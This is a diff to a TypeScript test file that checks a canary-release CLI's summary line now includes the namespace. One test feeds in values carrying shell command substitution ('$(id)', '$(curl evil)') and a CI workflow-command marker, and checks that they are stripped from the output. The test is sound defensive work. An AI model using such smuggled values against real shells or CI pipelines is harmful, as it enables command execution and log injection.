@@ -100,17 +100,17 @@ describe('the advance step', () => {
 describe('advance\'s summary line', () => {
   // eslint-disable-next-line @typescript-eslint/no-require-imports
   const { summaryLine } = require('../../src/cli/analyze') as typeof import('../../src/cli/analyze');
-  const verdict = (over: any): any => ({ service: 'reviews', version: 'v2', verdict: 'hold', reason: 'checks passed', weight: 5, nextWeight: 5, requests: 10, checks: [], nextState: { status: 'progressing' }, ...over });
+  const verdict = (over: any): any => ({ namespace: 'default', service: 'reviews', version: 'v2', verdict: 'hold', reason: 'checks passed', weight: 5, nextWeight: 5, requests: 10, checks: [], nextState: { status: 'progressing' }, ...over });
 
   test('keeps our words and numbers', () => {
-    expect(summaryLine([verdict({ reason: 'success-rate 92.5 not >= 99' })])).toBe('canary: reviews v2 holds at 5% (success-rate 92.5 not >= 99)');
+    expect(summaryLine([verdict({ reason: 'success-rate 92.5 not >= 99' })])).toBe('canary: default/reviews v2 holds at 5% (success-rate 92.5 not >= 99)');
   });
 
   test('replaces a reason holding text from Prometheus, and names that are not DNS names', () => {
     // GIVEN a reason carrying a Prometheus error message and a service name with shell syntax
-    const line = summaryLine([verdict({ service: 'x$(id)', reason: 'latency: query error (bad_data): "$(curl evil)"\n::error::' })]);
+    const line = summaryLine([verdict({ namespace: 'a"b', service: 'x$(id)', reason: 'latency: query error (bad_data): "$(curl evil)"\n::error::' })]);
     // THEN the line is ours only, and passes the workflow's check
-    expect(line).toBe('canary: a release v2 holds at 5% (reason in the job log)');
+    expect(line).toBe('canary: a namespace/a release v2 holds at 5% (reason in the job log)');
     expect(line).toMatch(/^canary: [A-Za-z0-9 .,:;%()<>=/+_-]*$/);
   });
 });
